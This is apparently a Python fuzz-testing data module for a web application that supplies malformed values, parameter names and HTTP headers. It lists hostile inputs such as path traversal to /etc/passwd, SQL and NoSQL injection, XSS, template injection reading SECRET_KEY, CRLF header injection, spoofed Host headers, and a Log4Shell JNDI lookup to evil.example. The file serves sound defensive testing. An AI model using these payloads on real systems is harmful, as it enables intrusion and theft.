"""What is put where it does not belong: values, names, headers, and sealed values that were damaged."""

import random

MARKER = "<fuzz>\"' onfuzz=\"x\" onfuzz='x'"
CSRF_TOKEN = "a" * 32

Random = random.Random

VALUES: tuple[bytes, ...] = (
    b"",
    b" ",
    b"\x00",
    b"a\x00b",
    b"\xff\xfe",
    b"\xc0\xaf",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    "\u202egnp.exe\u202c".encode(),
    "\u200f\u200b\ufeff".encode(),
    "\U0001f926\U0001f3fd\u200d\u2642\ufe0f".encode(),
    "e\u0301".encode() * 60,
    "\uff14\uff14\u0967\u0968\u0969\u0966\u0967".encode(),
    b"..",
    b".",
    b"../../../../etc/passwd",
    b"..\\..\\windows\\win.ini",
    b"#",
    b"?",
    b"/",
    b"//evil.example/",
    b"https://evil.example/",
    b"javascript:alert(1)",
    b"a" * 2_048,
    b"%" * 300,
    b"9999-99-99",
    b"9999-12-31",
    b"0000-00-00",
    b"0001-01-01",
    b"2026-02-30",
    b"2026-11-20",
    b"1e309",
    b"-1",
    b"0",
    b"9" * 400,
    b"NaN",
    b"Infinity",
    b"1.5",
    b"0x7f",
    b"true",
    b"null",
    b"[]",
    b"{}",
    b'{"$gt": ""}',
    b"' OR '1'='1",
    b"{{ settings.SECRET_KEY }}{% debug %}",
    b"%(asctime)s %n %s {0} {self}",
    b"${jndi:ldap://evil.example/a}",
    b"\r\nSet-Cookie: session=stolen",
    b"\n\nHTTP/1.1 200 OK\n\n<html>",
    b"*",
    b"ci-aaa-001",
    b"ci-bbb-002",
    b"+447700900123",
    b"waiting#ci-aaa-001",
    b"STAFF#ada.admin",
    b"SYSTEM",
    MARKER.encode(),
    b"<script>alert(1)</script>" + MARKER.encode(),
    b"--><!--" + MARKER.encode(),
)
NAMES = (
    *("in", "page", "before", "at", "found", "look", "tab", "company", "project", "channel", "status", "task"),
    *("hand_off", "since", "until", "name", "next", "intent", "reason", "note", "recipient", "ours", "code"),
    *("conversation_id", "username", "password", "role", "scope", "time_zone", "csrfmiddlewaretoken", "__proto__"),
    *("page[]", "company[0][id]", "a.b.c", "", "\x00", "\u202e", MARKER, "x" * 2_000),
)


def junk(chance: Random) -> bytes:
    found = chance.choice(VALUES)
    return found + chance.choice(VALUES) if chance.random() < 0.15 else found


def text(chance: Random) -> str:
    """Junk as text; lone surrogates stand for bytes that are no UTF-8."""
    return junk(chance).decode("utf-8", "surrogateescape")


def broken(token: bytes, chance: Random) -> bytes:
    """A sealed value cut, lengthened, repeated, or with one bit turned."""
    at = chance.randrange(len(token)) if token else 0
    return chance.choice(
        (
            token[:at],
            token + b"=",
            token * 2,
            token.swapcase(),
            token[:at] + bytes([(token[at] ^ 1) if token else 65]) + token[at + 1 :],
            b"\x00" + token,
            token[::-1],
        )
    )


HEADERS: tuple[tuple[str, tuple[bytes, ...]], ...] = (
    ("HX-Request", (b"true", b"false", b"TRUE", b"\xff", b"true,true")),
    (
        "HX-Current-URL",
        (b"http://testserver/queue/?tab=mine", b"http://[", b"//[::1", b"http://testserver:x/", b"\x00"),
    ),
    ("HX-Current-URL", (b"http://testserver//evil.example/", b"http://testserver/\r\n", b"javascript:alert(1)", b"")),
    ("HX-Current-URL-URI-AutoEncoded", (b"true",)),
    ("HX-Target", (MARKER.encode(), b"problem", b"\xff")),
    ("HX-Trigger", (MARKER.encode(), b"{}")),
    ("HX-Boosted", (b"true",)),
    ("HX-History-Restore-Request", (b"true", b"\x00")),
    ("HX-Prompt", (MARKER.encode(), b"%ff")),
    ("Triggering-Event", (b"{", b'{"a":1}', b"null")),
    ("X-Forwarded-Host", (b"evil.example", b"[", MARKER.encode())),
    ("X-Forwarded-Proto", (b"https", b"ftp", b"https, http")),
    ("X-Forwarded-For", (b"127.0.0.1", b"\xff", b"a, b, c")),
    ("X-Forwarded-Port", (b"99999", b"abc")),
    ("X-Original-URL", (b"/system/",)),
    ("X-Rewrite-URL", (b"/system/",)),
    ("X-HTTP-Method-Override", (b"DELETE", b"POST")),
    ("Host", (b"testserver:80", b"testserver:99999", b"testserver.", b"TESTSERVER", b"evil.example", b"[::1]", b"[")),
    ("Host", (b"", b"a b", b"\xff", b"test\x00server", b"testserver@evil.example", MARKER.encode(), b"h" * 3_000)),
    (
        "Referer",
        (b"http://testserver/queue/", b"http://testserver//evil.example/", b"http://[", b"\xff", b"about:blank"),
    ),
    ("Referer", (b"http://testserver/" + MARKER.encode(), b"https://evil.example/?" + MARKER.encode(), b"/")),
    ("Origin", (b"null", b"http://evil.example", b"http://[", b"http://testserver", MARKER.encode())),
    ("Accept", (b"application/json", b"*/*;q=x", b"text/html;;;", b"\xff", b"a" * 5_000)),
    ("Accept-Language", (b"ar", b"en-" + b"x" * 5_000, b"\xff", b"..")),
    ("Accept-Encoding", (b"gzip", b"br;q=2", b"\xff")),
    ("Sec-Purpose", (b"prefetch;prerender", b"\xff")),
    ("X-Poll", (b"1", b"", MARKER.encode())),
    ("Range", (b"bytes=0-10", b"bytes=-1", b"bytes=9-1", b"bytes=" + b"0-," * 500, b"junk=1")),
    ("If-None-Match", (b"*", b'"a", W/"b"', b"\xff", b'"' * 500)),
    ("If-Modified-Since", (b"Thu, 99 Foo 9999 99:99:99 GMT", b"0", b"\xff", b"Sat, 01 Jan 0001 00:00:00 GMT")),
    ("If-Match", (b'"a"', b"*")),
    ("User-Agent", (MARKER.encode(), b"\xff\x00", b"u" * 6_000, b"")),
    ("Authorization", (b"Basic \xff", b"Bearer " + b"x" * 3_000, b"Basic YTpi")),
    ("Transfer-Encoding", (b"chunked", b"identity, chunked", b"\x0bchunked")),
    ("Expect", (b"100-continue", b"junk")),
    ("Upgrade", (b"websocket", b"h2c")),
    ("X-CSRFToken", (CSRF_TOKEN.encode(), MARKER.encode(), b"\xff", b"a" * 64)),
    ("Content-Type", (b"a/b; x*0*=undefined''%ff", b"a/b; charset*=base64''%ff", b"a/b; =;=;*=", b'a/b; x="\\')),
    (
        "Content-Type",
        (b"text/html; charset=base64", b"text/html; charset=undefined", b"text/html; charset=utf-16", b"\xff"),
    ),
    ("Content-Encoding", (b"gzip",)),
)
